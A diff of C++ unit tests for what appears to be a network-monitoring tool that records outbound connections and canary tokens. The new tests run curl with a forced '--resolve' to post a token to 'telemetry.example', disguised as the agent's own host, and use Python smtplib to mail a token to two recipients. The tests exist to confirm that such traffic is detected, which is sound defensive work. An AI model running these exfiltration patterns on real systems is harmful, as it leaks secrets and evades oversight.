@@ -88,6 +88,27 @@ TEST_F(RealClients, AClientThatTrustsNobodyIsAContactByName) {
   EXPECT_EQ(lost(), 0U);
 }
 
+TEST_F(RealClients, AClientCannotSayThatItCallsAHostOfTheAgentsOwnProgram) {
+  ledger.set_baseline({.hosts = {"telemetry.example"}});
+
+  const std::string code = watch([&] {
+    resolve({"telemetry", "example"});
+    return program({"curl", "-sS", "--cacert", trusted(), "--resolve",
+                    "telemetry.example:443:203.0.113.9", "-d", token,
+                    "https://telemetry.example/"});
+  });
+
+  EXPECT_EQ(code, "0");
+  const record::Connected connected{
+      .host = "", .address = "203.0.113.9", .port = 443, .transport = "tls"};
+  EXPECT_EQ(facts<record::Connected>(), std::vector{connected});
+  std::vector<std::string> own;
+  for (const record::Observation& one : evidence.observations) {
+    if (one.own) own.emplace_back(kind(one.fact));
+  }
+  EXPECT_EQ(own, std::vector<std::string>{"name-looked-up"});
+}
+
 TEST_F(RealClients, WithoutAnAuthorityTlsIsAContactByName) {
   authority = nullptr;
 
@@ -124,13 +145,18 @@ TEST_F(RealClients, PythonSendsAMail) {
         "import smtplib\n"
         "server = smtplib.SMTP('203.0.113.9', 587, local_hostname='me')\n"
         "server.login('dev', 'pass')\n"
-        "server.sendmail('a@b.test', ['c@d.test'], 'Subject: x\\n\\n" +
+        "server.sendmail('a@b.test', ['c@d.test', 'e@f.test'], 'Subject: x\\n\\n" +
         token +
         "')\n"
         "server.quit()\n");
   });
 
   EXPECT_EQ(code, "0");
+  const std::uint64_t size = token.size() + std::string("Subject: x\r\n\r\n\r\n").size();
+  EXPECT_EQ(facts<record::MailSent>(),
+            (std::vector<record::MailSent>{
+                {.recipient = "c@d.test", .host = "203.0.113.9", .size = size},
+                {.recipient = "e@f.test", .host = "203.0.113.9", .size = size}}));
   EXPECT_EQ(facts<record::CanarySeen>().size(), 1U);
 }
 
